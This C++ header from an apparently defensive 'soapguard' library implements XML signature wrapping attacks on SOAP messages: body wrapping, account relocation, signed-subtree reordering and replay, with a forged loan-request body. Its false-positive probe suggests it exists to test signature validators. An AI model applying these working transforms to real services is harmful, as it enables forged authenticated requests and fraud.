#pragma once

#include <algorithm>
#include <cstddef>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "soapguard/dsig.hpp"
#include "soapguard/errors.hpp"
#include "soapguard/soap.hpp"
#include "soapguard/xml.hpp"

namespace soapguard {

inline XmlNode default_attacker_body() {
    return parse(
        "<Body>"
        "<issueLoanOffer>"
        "<clientData><clientName>Robert Lewis</clientName><clientSSN>MNASJDSLEKKR</clientSSN>"
        "</clientData>"
        "<employeeData><password>qwerty123</password><username>Piter Pan</username>"
        "</employeeData>"
        "<loanAmount>500000</loanAmount><loanType>2</loanType>"
        "</issueLoanOffer>"
        "</Body>");
}

namespace detail {

// Reference ids across every signature, document order, deduplicated.
inline std::vector<std::string> signed_ref_ids(const XmlNode& root) {
    std::vector<std::string> ids;
    for (const NodePath& path : find_signature_paths(root)) {
        SignatureBlock sig;
        try {
            sig = parse_signature(root, path);
        } catch (const Error&) {
            continue;
        }
        for (const auto& ref : sig.references) {
            if (ref.uri.size() < 2 || ref.uri[0] != '#') continue;
            std::string id = ref.uri.substr(1);
            if (std::find(ids.begin(), ids.end(), id) == ids.end()) ids.push_back(std::move(id));
        }
    }
    return ids;
}

inline std::size_t security_child_index(const XmlNode& header) {
    for (std::size_t i = 0; i < header.children.size(); ++i)
        if (header.children[i].is_element() && local_name(header.children[i].name) == "Security")
            return i;
    return header.children.size();
}

inline NodePath ensure_header(XmlNode& env, EnvelopeShape& shape) {
    if (!shape.header) {
        insert_child(env, {}, 0, XmlNode::element("Header"));
        shape = as_envelope(env);
    }
    return *shape.header;
}

}  // namespace detail

// The classic rewrite: hide the signed Body under an unprocessed bogus header
// block, put a fresh Body in its place. Every reference still resolves and
// every digest still matches, so reference-by-id verification accepts.
inline XmlNode attack_wrap_body(XmlNode env, XmlNode attacker_body,
                                const std::string& wrapper_name = "BogusHeader",
                                const IdAttrSet& id_attrs = default_id_attrs()) {
    if (wrapper_name.empty()) throw InvalidHeaderName("wrapper name must be nonempty");
    EnvelopeShape shape = as_envelope(env);
    const std::string* body_id = id_of(node_at(env, shape.body), id_attrs);
    std::vector<std::string> signed_ids = detail::signed_ref_ids(env);
    if (body_id == nullptr ||
        std::find(signed_ids.begin(), signed_ids.end(), *body_id) == signed_ids.end())
        throw NoSignedBody("Body is not covered by any signature");

    NodePath header_path = detail::ensure_header(env, shape);
    std::size_t body_slot = shape.body.back();
    XmlNode original = remove_subtree(env, shape.body);
    XmlNode wrapper =
        XmlNode::element(wrapper_name,
                         {{"role", std::string(roles::none)}, {"mustUnderstand", "false"}},
                         {std::move(original)});

    XmlNode& header = node_at(env, header_path);
    header.children.insert(
        header.children.begin() +
            static_cast<std::ptrdiff_t>(detail::security_child_index(header)),
        std::move(wrapper));
    insert_child(env, {}, body_slot, std::move(attacker_body));
    return env;
}

// Cut-and-paste bypass for presence-only account checks: the account and the
// original Body move into a role="none" block no node processes, while the
// attacker's Body takes the envelope slot. Nothing signed is removed, so both
// references still validate.
inline XmlNode attack_relocate_account(XmlNode env, XmlNode attacker_body,
                                       const IdAttrSet& id_attrs = default_id_attrs()) {
    EnvelopeShape shape = as_envelope(env);
    NodePath header_path = detail::ensure_header(env, shape);

    std::optional<NodePath> account_path;
    for_each_element(env, [&](const NodePath& path, const XmlNode& node) {
        if (!account_path && !path.empty() && local_name(node.name) == "SoapAccount")
            account_path = path;
    });
    if (!account_path) throw NoAccountPresent("no SoapAccount element in the message");

    std::size_t body_slot = shape.body.back();

    XmlNode account = remove_subtree(env, *account_path);
    XmlNode original = remove_subtree(env, shape.body);

    XmlNode& header = node_at(env, header_path);
    std::size_t action_index = detail::security_child_index(header);
    if (account_path->size() == 2 && account_path->front() == header_path.front())
        action_index = std::min(account_path->back(), header.children.size());

    XmlNode shell = XmlNode::element("Envelope", {}, {XmlNode::element("Header"),
                                                      std::move(original)});
    XmlNode action =
        XmlNode::element("Action",
                         {{"role", std::string(roles::none)}, {"mustUnderstand", "false"}},
                         {std::move(shell), std::move(account)});
    header.children.insert(header.children.begin() + static_cast<std::ptrdiff_t>(action_index),
                           std::move(action));
    insert_child(env, {}, body_slot, std::move(attacker_body));
    return env;
}

// Swaps the first two signed subtrees that do not contain each other. Digests
// are computed per subtree, so the signature survives the exchange.
inline XmlNode attack_reorder_signed(XmlNode env,
                                     const IdAttrSet& id_attrs = default_id_attrs()) {
    std::vector<NodePath> paths;
    for (const std::string& id : detail::signed_ref_ids(env)) {
        try {
            paths.push_back(resolve_reference(env, "#" + id, id_attrs));
        } catch (const Error&) {
        }
    }
    for (std::size_t i = 0; i < paths.size(); ++i) {
        for (std::size_t j = i + 1; j < paths.size(); ++j) {
            if (path_is_prefix(paths[i], paths[j]) || path_is_prefix(paths[j], paths[i]))
                continue;
            std::swap(node_at(env, paths[i]), node_at(env, paths[j]));
            return env;
        }
    }
    throw NeedTwoSignedElements("fewer than two disjoint signed elements");
}

// The attack is in the delivery, not the bytes.
inline XmlNode attack_replay(XmlNode env) { return env; }

// Legitimate intermediary behavior, used to probe validators for false
// positives: an unsigned block addressed to the next hop.
inline XmlNode add_benign_header(XmlNode env, const std::string& name) {
    if (name.empty()) throw InvalidHeaderName("header name must be nonempty");
    EnvelopeShape shape = as_envelope(env);
    NodePath header_path = detail::ensure_header(env, shape);
    insert_child(env, header_path, 0,
                 XmlNode::element(name, {{"role", std::string(roles::next)}}));
    return env;
}

}  // namespace soapguard
